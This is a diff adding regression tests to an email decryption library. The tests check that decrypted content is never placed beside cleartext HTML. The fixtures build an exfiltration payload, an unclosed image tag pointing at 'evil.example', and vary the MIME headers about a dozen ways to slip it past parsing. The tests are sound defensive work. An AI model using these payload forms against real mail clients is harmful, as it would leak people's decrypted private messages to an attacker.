@@ -71,6 +71,48 @@ describe('what was decrypted never stands beside HTML that came in clear (CVE-20
     expect(Buffer.concat(opened.aside).toString()).not.toContain(SECRET);
   });
 
+  const page = (words: string) => ['Content-Type: text/html', '', words];
+  const forms: readonly [string, (words: string) => string[]][] = [
+    ['with a comment in its type', (words) => ['Content-Type: text/html (x)', '', words]],
+    ['with a word behind its type', (words) => ['Content-Type: text/html x', '', words]],
+    ['with a type that nobody can read', (words) => ['Content-Type: text/html/x', '', words]],
+    ['with two types', (words) => ['Content-Type: text/plain', 'Content-Type: text/html', '', words]],
+    [
+      'in a multipart with a comment',
+      (words) => ['Content-Type: multipart/mixed (x); boundary=q', '', '--q', ...page(words), '--q--'],
+    ],
+    ['in a multipart without parts', (words) => ['Content-Type: multipart/mixed; boundary=q', '', ...page(words)]],
+    ['in a mail', (words) => ['Content-Type: message/rfc822', '', 'From: a@b.example', ...page(words)]],
+    [
+      'in a mail that says it is a file',
+      (words) => ['Content-Type: message/rfc822', 'Content-Disposition: attachment', '', ...page(words)],
+    ],
+    ['that says it is a file', (words) => ['Content-Type: text/html', 'Content-Disposition: attachment', '', words]],
+    ['as XHTML', (words) => ['Content-Type: application/xhtml+xml', 'Content-Disposition: inline', '', words]],
+    ['as an image', (words) => ['Content-Type: image/svg+xml', '', words]],
+    ['in two encodings', (words) => ['Content-Transfer-Encoding: 7bit', 'Content-Transfer-Encoding: 8bit', ...page(words)]],
+  ];
+  it.each(forms)('HTML %s', async (_, form) => {
+    for (const secret of [inline, file, pgpMime]) {
+      const opened = await open(...many('mixed', form('<img src="https://evil.example/?'), secret, form('">')));
+      const { text, files } = viewOf(parseEntity(opened.content));
+      expect([text, ...files.map(({ bytes }) => Buffer.from(bytes).toString())].join('\n')).toContain(SECRET);
+      expect(contentOf(opened)).not.toMatch(/evil\.example|<img|">/);
+      expect(opened.warnings).toContain('unprotected-text');
+    }
+  });
+
+  it.each([
+    ['an image', 'image/png'],
+    ['a document', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+    ['an archive', 'application/gzip'],
+  ])('%s stays where it is', async (_, type) => {
+    const part = [`Content-Type: ${type}; name=a.bin`, 'Content-Disposition: attachment', '', 'octets-of-it'];
+    const opened = await open(...many('mixed', inline, part));
+    expect(contentOf(opened)).toContain('octets-of-it');
+    expect(contentOf(opened)).toContain(SECRET);
+  });
+
   it('armor inside of a tag is not looked for', async () => {
     const opened = await open(...html(`<img src="https://evil.example/?\r\n${armored}\r\n">`));
     expect(opened).toMatchObject({ encrypted: false });
